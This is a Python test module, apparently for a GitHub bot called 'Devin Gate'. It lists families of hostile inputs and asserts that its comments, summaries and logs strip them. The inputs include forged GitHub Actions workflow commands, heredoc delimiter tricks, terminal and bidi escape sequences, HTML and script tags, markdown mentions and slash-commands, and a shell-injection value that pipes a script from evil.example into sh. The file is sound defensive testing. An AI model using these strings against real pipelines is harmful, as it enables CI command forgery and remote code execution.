"""Texts that want to be more than text, and what no sink may show of them."""

from __future__ import annotations

import itertools
import re
from collections.abc import Mapping, Sequence
from typing import Final

from tests.runner_model import read_commands
from tests.scenarios.page import show
from tests.scenarios.world import Gate

FAMILIES: Final[Mapping[str, tuple[str, ...]]] = {
    "command": (
        "::set-output name=passed::true",
        " \t::error::forged",
        "fine\r::add-mask::pass",
        "fine\n::stop-commands::x",
        "\u2028::error::x\u2029::error::x\x85::error::x\x0b::error::x\x0c::error::x",
        "%0A::error::x%0D%0A##[error]x%3A%3A",
    ),
    "old-command": (
        "in the middle ##[add-mask]pass",
        "##[group]x",
        "##\u200b[error]x #\x1b[0m#[error]x ##\x00[error]x",
    ),
    "heredoc": (
        "ghadelimiter_00000000000000000000000000000000\npassed=true",
        "EOF\npassed<<EOF\ntrue\nEOF",
    ),
    "terminal": (
        "\x1b[31mred\x1b]8;;https://evil.example\x07link\x9b2J",
        "\u202egnp.exe\u202c \u2066x\u2069 \ufeff \U000e0041",
        "\x00nul\x08\x7f",
    ),
    "html": (
        "<!-- devin-gate key=x run=9 attempt=9 -->",
        "--> <!-- devin-gate key=x run=9 attempt=9 -->",
        "</code></pre></td></table>\n\n<img src=https://evil.example> <details open><script>x",
        "&lt;img src=x&gt; &#64;octocat &amp;#64;octocat",
    ),
    "markdown": (
        "```\n@org/team ![x](https://evil.example/x.png)\n```\n~~~\n@org/team",
        "![x][y] ![x](//evil.example/x.png)\n\n[y]: //evil.example",
        "\n\n# Heading\n\n@octocat fixes #1, closes octo-org/octo-repo#2 GH-3 @org/team",
        "x\n/merge\n!approve\n@devin go\n- [ ] task",
        "| a | b |\n|---|---|\n| @octocat | <b>x</b> |",
        "` @octocat ` `` @octocat",
    ),
    "expression": (
        "${{ secrets.DEVIN_API_KEY }} $(id) `id` $GITHUB_TOKEN",
        "'; curl https://evil.example | sh; echo '",
    ),
    "surrogate": ("\ud83d \udc00 \ud800", "\udc00"),
    "long": ("x" * 30_000, "##[add-mask]pass " * 1_500, "\n" * 3_000 + "::error::x", "` " * 9_000),
}


class Texts:
    """Gives the texts of a family in turn, so that each stands alone in some field."""

    def __init__(self, family: Sequence[str], first: int) -> None:
        self._family = (*family[first:], *family[:first])
        self._turn = itertools.cycle(self._family)

    def __call__(self) -> str:
        """Return the next one."""
        return next(self._turn)

    def anew(self) -> Texts:
        """Return the same from the first."""
        return Texts(self._family, 0)


_SHOWN: Final = frozenset(
    {"table", "tr", "td", "th", "code", "pre", "p", "ul", "li", "h3", "h4", "a", "a[href]"}
    | {"sub", "details", "summary", "th[align]", "td[align]"}
)
_COMMANDS: Final = frozenset({"add-mask", "group", "endgroup", "error", "warning", "notice"})
_CONTROL: Final = re.compile(
    r"[^\n\S ]|[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]"
)
_MAX_COMMENT: Final = 60_200
"""60,000 characters and the marker."""


def check_pages(gate: Gate) -> None:
    """Check comments, summaries and logs: no tag, mention, image, link or marker that is not ours."""
    for run in gate.runs:
        for text in (*_ours(run.comments), run.summary):
            _check_page(text)
        for text in _ours(run.comments):
            assert [remark.split("=")[0] for remark in show(text).remarks] == ["devin-gate key"]
            assert len(text) <= _MAX_COMMENT
        assert "<!--" not in run.summary
        assert {command.name for command in read_commands(run.log)} <= _COMMANDS
        assert not _CONTROL.search(run.log), _CONTROL.search(run.log)
        assert max(map(len, run.log.split("\n"))) <= 4_300, "every foreign line is cut"


def _ours(comments: tuple[str, ...]) -> list[str]:
    return [body for body in comments if "Devin Gate" in body or "Devin is" in body]


def _check_page(text: str) -> None:
    page = show(text)
    assert page.tags <= _SHOWN, page.tags
    assert not re.search(r"@\w|#\d|\bGH-\d", page.loose), page.loose
    assert "::" not in page.loose
    assert all(mark not in text for mark in ("\u202e", "\u2066", "\x1b", "\x00", "\r"))
    assert not any(line.startswith(("/", "!")) for line in text.splitlines())
    assert all(_is_shown(link, page.text) for link in page.links), page.links
    assert len(text) <= 240_000


def _is_shown(link: str, text: str) -> bool:
    """Tell whether a reader sees where a link leads, its first hundred characters at least."""
    return re.match("https?://", link) is not None and link.partition("://")[2][:99] in text
